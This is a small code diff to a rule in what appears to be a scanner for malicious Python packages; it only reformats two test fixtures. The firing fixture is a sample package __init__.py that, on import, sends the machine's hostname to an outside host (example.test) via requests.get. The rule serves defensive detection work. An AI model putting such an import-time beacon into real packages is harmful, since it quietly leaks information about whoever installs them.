@@ -30,10 +30,14 @@ RULE = Rule(
     grade=HOLD,
     find=_find,
     fires={
-        "acme/__init__.py": "import socket, requests\nrequests.get('https://example.test/?' + socket.gethostname())\n"
+        "acme/__init__.py": (
+            "import socket, requests\nrequests.get('https://example.test/?' + socket.gethostname())\n"
+        )
     },
     quiet={
-        "acme/__init__.py": "import platform, requests\n\ndef agent():\n    return {'User-Agent': platform.platform()}\n"
+        "acme/__init__.py": (
+            "import platform, requests\n\ndef agent():\n    return {'User-Agent': platform.platform()}\n"
+        )
     },
     rates="94 + 84 of 2,004 malicious clusters, none of 200 popular archives",
 )
